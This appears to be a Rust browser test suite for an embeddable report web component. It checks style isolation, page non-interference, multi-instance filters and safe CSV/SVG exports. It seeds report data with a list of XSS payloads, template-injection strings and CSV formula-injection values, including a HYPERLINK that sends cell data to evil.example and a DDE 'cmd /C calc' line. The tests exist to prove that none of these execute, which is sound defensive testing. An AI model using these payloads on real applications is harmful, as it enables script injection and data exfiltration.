//! Pages and documents that mean harm, or have never thought of the report: their styles change nothing inside it, it
//! changes nothing of theirs, and no text of a document is ever more than text.

use e2e::page::{Page, Report, visit};
use e2e::until;
use serde_json::{Value, json};

/// What a host's style sheet may do to everything on its page.
const STYLES: [(&str, &str); 4] = [
    ("reverted", "* { all: revert !important; }"),
    (
        "inherited",
        "html { font-size: 60px } * { font: italic 900 40px/3 serif !important; color: red !important; letter-spacing: 9px !important;
           text-transform: uppercase !important; text-align: right !important; white-space: nowrap !important; word-spacing: 2em;
           text-indent: 4em !important; text-shadow: 0 0 9px red; direction: rtl; writing-mode: horizontal-tb; cursor: none;
           list-style: square; border-collapse: collapse; user-select: none; hyphens: auto; tab-size: 1; quotes: '!' '!' }",
    ),
    (
        "boxes",
        "* { box-sizing: content-box !important; outline: 9px solid red; background: red; border-radius: 40px; position: relative;
           opacity: .9; filter: blur(1px); float: none; z-index: -1; clip-path: inset(0) }
         div, section, header, table, button, p, span, h1, h2, svg, rect { display: none !important; }",
    ),
    ("moved", "* { transform: rotate(3deg) scale(.5); transition: all 9s; animation: none; perspective: 9px; will-change: transform }"),
];

/// The computed styles of a sample of nodes, all properties but those that follow from where the page has put the element.
const INSIDE: &str = "
const sample = ['.report', '.head', 'h1', '.provenance span', '.controls select', '.controls input', '.icon', '.kpis h2', '.tile-value b', '.tile-change',
  '.funnel .step', '.funnel .step-name', '.funnel rect', '.trend svg text', '.grid th button', '.grid td.number', '.grid .drill', '.crumbs li', '.notes li', '.export summary'];
const nodes = sample.map((selector) => [selector, root.querySelector(selector)]);
const own = /^(--|(perspective|transform)-origin$)/;
return Object.fromEntries(nodes.filter(([, node]) => node).map(([selector, node]) => {
  const style = getComputedStyle(node);
  return [selector, [...style].filter((name) => !own.test(name)).map((name) => `${name}: ${style.getPropertyValue(name)}`)];
}));";

fn differences(before: &Value, after: &Value) -> Vec<String> {
    let (before, after) = (before.as_object().expect("styles"), after.as_object().expect("styles"));
    let mut found = Vec::new();
    for (selector, styles) in before {
        let now = &after.get(selector).cloned().unwrap_or_default();
        for (one, other) in styles.as_array().into_iter().flatten().zip(now.as_array().into_iter().flatten()) {
            if one != other {
                found.push(format!("{selector} {one} became {other}"));
            }
        }
        if styles.as_array().map(Vec::len) != now.as_array().map(Vec::len) {
            found.push(format!("{selector} is gone"));
        }
    }
    found
}

#[test]
fn styles_of_the_page_change_nothing_inside() {
    visit(|page| {
        let report = page.report("first");
        // As wide as before, whatever becomes of the page around it.
        page.run(
            "document.body.append(document.getElementById('first')); document.querySelector('main').remove();
            document.body.style.width = '1000px'",
            &[],
        );
        report.wait("its width", "root.querySelector('.report').clientWidth > 900");
        let before = report.run(INSIDE, &[]);
        assert!(before.as_object().is_some_and(|sample| sample.len() > 16), "{before}");
        for (name, styles) in STYLES {
            let wear = "window.worn = new CSSStyleSheet(); worn.replaceSync(arguments[0]); document.adoptedStyleSheets = [worn];
                document.body.style.cssText = 'width: 1000px !important; display: block !important; padding: 0 !important; border: 0 !important;'";
            page.run(wear, &[styles.into()]);
            until(name, || {
                let found = differences(&before, &report.run(INSIDE, &[]));
                if found.is_empty() {
                    Ok(())
                } else {
                    Err(format!("{} differences: {:#?}", found.len(), &found[..found.len().min(12)]))
                }
            });
        }
        // What hides the element is the page's right.
        page.run("worn.replaceSync('redcat-report { display: none }')", &[]);
        assert_eq!(report.run("return host.getClientRects().length", &[]), json!(0));
        page.run("worn.replaceSync('body { visibility: hidden }')", &[]);
        assert_eq!(report.run("return getComputedStyle(root.querySelector('h1')).visibility", &[]), json!("hidden"));
        page.run("document.adoptedStyleSheets = []", &[]);
    });
}

#[test]
fn the_report_changes_nothing_of_the_page() {
    let page = Page::blank();
    page.open();
    page.run(OUTSIDE, &[]);
    let changed = || page.run("return changed()", &[]);
    // All that can be opened is open.
    let report = page.report("first");
    report.click(".kpis .tile-name");
    report.wait("a card", "root.querySelector('.card')");
    report.run("root.querySelectorAll('details').forEach((details) => { details.open = true; })", &[]);
    report.click(".funnel .twin-toggle");
    assert_eq!(changed(), json!([]), "while it is used");
    let remove = "document.querySelectorAll('redcat-report').forEach((element) => element.replaceWith(document.createElement('div')));
        return new Promise((done) => setTimeout(done))";
    page.run(remove, &[]);
    assert_eq!(changed(), json!([]), "after it has gone");
}

/// What of the page is other than it was, but for heights, which follow the element's.
const OUTSIDE: &str = "
const nodes = [...document.querySelectorAll('html, head, body, .bar, .bar *, main, section, h2, #drop')];
const look = () => nodes.map((node) => {
  const style = getComputedStyle(node);
  const styles = [...style].filter((name) => !/height|block-size|origin|inset|bottom|top|rows/.test(name));
  return [...styles.map((name) => `${name}: ${style.getPropertyValue(name)}`), ...[...node.attributes].map(({ name, value }) => `${name}=${value}`)];
}).concat([[String(document.adoptedStyleSheets.length), String(document.styleSheets.length), String(document.head.children.length),
  document.title, location.href, ...Object.keys(window).filter((name) => !/^(cdc_|ret_|se_)/.test(name))]]);
window.changed = undefined;
const before = look();
window.changed = () => look().flatMap((now, n) => now.filter((part) => !before[n].includes(part)).map((part) => `${nodes[n]?.tagName} ${part}`));";

/// A report in which each text means harm, made from the sample.
const DOCUMENT: &str = r#"
const hostile = [
  '<script>window.ran = 1</script>', '<img src=x onerror="window.ran = 2">', '" onmouseover="window.ran = 3" x="', "javascript:window.ran = 4",
  '</style></title></textarea><svg onload="window.ran = 5">', '=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1;2)',
  '\t=1+1', '\r=1+1', '=1,"\n=2', '\u202egnp.exe\u2066\u2067\u2068', '${window.ran = 6}', "{{constructor.constructor('window.ran = 7')()}}", 'https://evil.example/',
  'x'.repeat(2000), '文'.repeat(2000), '<a href="javascript:window.ran = 8">x</a>', '\u0000\u0007\u200b\ufeff', '&lt;b&gt;&#60;', ']]></text><script>window.ran = 9</script>',
];
let n = 0;
const text = () => hostile[n++ % hostile.length];
const spoil = (value) => {
  if (!value || typeof value !== 'object') return;
  for (const [key, inner] of Object.entries(value)) {
    if (key === 'people_flow') continue; // its sources are words of the contract
    if (['label', 'source', 'description', 'dedupe'].includes(key)) value[key] = n % 2 ? text() : { 'zh-CN': text(), en: text() };
    else spoil(inner);
  }
};
return fetch('data/beauty.json').then((answer) => answer.text()).then((sample) => {
  // Ids of members too: they stand in tables, files and attributes.
  const creators = JSON.parse(sample).dimensions.find(({ id }) => id === 'creator').members.slice(0, 40);
  creators.forEach(({ id }, at) => { sample = sample.split(JSON.stringify(id)).join(JSON.stringify(`${at}"><img src=x onerror=window.ran=10>=${id}`)); });
  const report = JSON.parse(sample);
  spoil(report);
  report.meta.merchant.name = args[0] ?? hostile[0];
  host.spoilt = n;
  host.report = report;
});"#;

const PANELS: &str = "[...root.querySelector('.panels').children].map((panel) => panel.getAttribute('part'))";

fn watch(page: &Page, report: &Report<'_>) {
    page.run("window.violations = []; addEventListener('securitypolicyviolation', (event) => violations.push(event.blockedURI + event.violatedDirective))", &[]);
    report.listen("redcat-ready");
    report.listen("redcat-error");
}

/// The report is shown and not refused.
#[track_caller]
fn taken(report: &Report<'_>) {
    until("the report", || match (report.heard("redcat-ready").len(), report.heard("redcat-error")) {
        (1, _) => Ok(()),
        (_, refused) => Err(format!("{refused:?}")),
    });
}

#[track_caller]
fn calm(page: &Page, report: &Report<'_>, what: &str) {
    assert_eq!(page.run("return [window.ran ?? null, violations]", &[]), json!([null, []]), "{what}");
    let made = "return [...root.querySelectorAll('script, img, iframe, a, object, embed, style, [onload], [onerror], [onmouseover]')].map((node) => node.outerHTML.slice(0, 200))";
    assert_eq!(report.run(made, &[]), json!([]), "{what}");
    assert_eq!(report.heard("redcat-error"), Vec::<Value>::new(), "{what}");
}

/// What reaches beyond the report, or makes the page wider than its window.
const SPILT: &str = "
const box = host.getBoundingClientRect();
const spilt = [...root.querySelectorAll('.report *')].filter((node) => {
  if (node.closest('.scroll') && !node.matches('.scroll')) return false;
  if (node.ownerSVGElement) return false; // cut off where the report ends
  const { left, right, width, height } = node.getBoundingClientRect();
  return width > 0 && height > 0 && node.checkVisibility() && (left < box.left - 0.5 || right > box.right + 0.5);
}).slice(0, 5).map((node) => `${node.tagName}.${node.getAttribute('class')}: ${node.textContent.slice(0, 40)}`);
return document.scrollingElement.scrollWidth > innerWidth ? [...spilt, 'the page is wider than its window'] : spilt;";

#[test]
fn no_text_of_a_document_runs_breaks_out_or_tears_the_layout() {
    visit(|page| {
        let report = page.report("first");
        watch(page, &report);
        page.run("document.querySelectorAll('section').forEach((section) => section.remove())", &[]);
        report.run(DOCUMENT, &[]);
        taken(&report);
        let texts = report.run("return host.spoilt", &[]);
        assert!(texts.as_u64().is_some_and(|texts| texts > 150), "{texts} texts");
        for (width, lang) in [(1280, "zh-CN"), (700, "en"), (320, "zh-CN")] {
            page.session.resize(width, 900);
            report.run("host.setAttribute('lang', args[0])", &[lang.into()]);
            report.ready();
            report.wait("its layout", "root.querySelector('.report').matches(innerWidth > 800 ? '.wide' : innerWidth > 500 ? '.medium' : '.narrow')");
            calm(page, &report, "shown");
            let beyond = || report.run(SPILT, &[]);
            assert_eq!(beyond(), json!([]), "{width} px");
            // Whatever opens and turns.
            report.run(
                "root.querySelectorAll('.panel:not(.kpis) .twin-toggle[aria-pressed=false]').forEach((button) => button.click())",
                &[],
            );
            report.wait("tables", "root.querySelectorAll('.twin').length > 4");
            report.run(
                "root.querySelectorAll('details:not(.export)').forEach((details) => { details.open = true; })",
                &[],
            );
            assert_eq!(beyond(), json!([]), "{width} px, tables");
            report.run("root.querySelector('.tile-name').click()", &[]);
            report.wait("a card", "root.querySelector('.card dd')");
            assert_eq!(beyond(), json!([]), "{width} px, a card");
            report.run("root.querySelector('.card header button').click()", &[]);
            report.run("root.querySelectorAll('details').forEach((details) => { details.open = false; })", &[]);
            report.run(
                "root.querySelectorAll('.twin-toggle[aria-pressed=true]').forEach((button) => button.click())",
                &[],
            );
            report.wait("charts", "!root.querySelector('.funnel .twin')");
            calm(page, &report, "opened and turned");
        }
    });
}

/// Cells of a CSV that a table program would take for a formula, and parts of a picture that are more than a drawing.
const FILES: &str = r#"
const cells = (text) => {
  const found = []; let cell = '', quoted = false;
  for (let n = 0; n < text.length; n += 1) {
    const letter = text[n];
    if (quoted && letter === '"' && text[n + 1] === '"') { cell += '"'; n += 1; }
    else if (letter === '"') quoted = !quoted;
    else if (!quoted && (letter === ',' || letter === '\n' || letter === '\r')) { found.push(cell); cell = ''; }
    else cell += letter;
  }
  return [...found, cell];
};
const wrong = [];
return (async () => {
  for (const panel of args[0]) {
    const text = (await (await host.exportCsv(panel)).text()).replace(/^\ufeff/, '');
    const formulas = cells(text).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?[0-9.]+%?$/.test(cell));
    if (formulas.length) wrong.push([panel, formulas[0]]);
    const picture = new DOMParser().parseFromString(await (await host.exportSvg(panel)).text(), 'image/svg+xml');
    const alive = [...picture.querySelectorAll('*')].filter((node) => /^(script|foreignobject|a|image|use|iframe|parsererror)$/i.test(node.localName)
      || [...node.attributes].some(({ name }) => /^on|href/i.test(name)));
    if (alive.length) wrong.push([panel, alive[0].outerHTML.slice(0, 300)]);
  }
  return wrong;
})();"#;

#[test]
fn files_of_a_hostile_document_are_numbers_texts_and_drawings() {
    visit(|page| {
        let report = page.report("first");
        watch(page, &report);
        report.run(DOCUMENT, &["=cmd|'/C calc'!A0".into()]);
        taken(&report);
        report.ready();
        let panels = report.run(&format!("return {PANELS}"), &[]);
        assert!(panels.as_array().is_some_and(|panels| panels.len() > 8), "{panels}");
        assert_eq!(report.run(FILES, &[panels]), json!([]));
        calm(page, &report, "files");
    });
}

#[test]
fn a_name_of_a_megabyte_is_refused_with_its_place() {
    visit(|page| {
        let report = page.report("first");
        watch(page, &report);
        let markup = report.markup();
        let long = "return fetch('data/cdnow.json').then((answer) => answer.json()).then((report) => {
            report.dimensions[0].label = 'x'.repeat(1 << 20); host.report = report; })";
        report.run(long, &[]);
        let heard = report.hears("redcat-error");
        assert_eq!(
            (&heard[0]["kind"], &heard[0]["path"]),
            (&json!("limit"), &json!("dimensions[0].label")),
            "{heard:?}"
        );
        assert!(
            heard[0]["message"].as_str().is_some_and(|message| message.len() < 1000),
            "the name is not said in full"
        );
        assert_eq!(report.markup(), markup);
    });
}

#[test]
fn ten_reports_on_a_page_have_each_their_own_filter() {
    visit(|page| {
        let ids: Vec<String> = (0..10).map(|n| format!("report-{n}")).collect();
        let build = "document.querySelector('main').replaceChildren(...arguments[0].map((id) => Object.assign(document.createElement('redcat-report'), { id })));
            return fetch('data/beauty.json').then((answer) => answer.arrayBuffer()).then((bytes) => {
              for (const id of arguments[0]) { const own = document.getElementById(id); own.setAttribute('view', 'kpis drilldown'); own.report = new Uint8Array(bytes); } })";
        page.run(build, &[json!(ids)]);
        let members = ["skincare", "makeup"];
        for (n, id) in ids.iter().enumerate() {
            let report = page.report(id);
            report.wait("a report", "root && root.querySelector('.grid tr[data-kind=member]')");
            let from = format!("2025-05-{:02}", 10 + n);
            let chosen = json!({"filters": {"category": [members[n % 2]], "date": {"from": from, "to": "2025-06-18"}}});
            report.run("host.selection = args[0]", &[chosen]);
        }
        let mut periods = Vec::new();
        for (n, id) in ids.iter().enumerate() {
            let report = page.report(id);
            let screen = report.screen_where("its own filter", |screen| {
                screen.chips.len() == 1 && screen.period.contains(&format!("2025-05-{}", 10 + n))
            });
            assert_eq!(report.selection()["filters"]["category"], json!([members[n % 2]]));
            assert!(!periods.contains(&screen.period), "{}", screen.period);
            periods.push(screen.period);
        }
        // One goes, one changes its language: eight stay as they are.
        let markups: Vec<String> = ids[2..].iter().map(|id| page.report(id).markup()).collect();
        page.run("document.getElementById('report-0').remove(); document.getElementById('report-1').setAttribute('lang', 'en')", &[]);
        page.report("report-1").wait("English", "root.querySelector('.report').lang === 'en'");
        let after: Vec<String> = ids[2..].iter().map(|id| page.report(id).markup()).collect();
        assert!(markups == after, "another report has changed");
    });
}
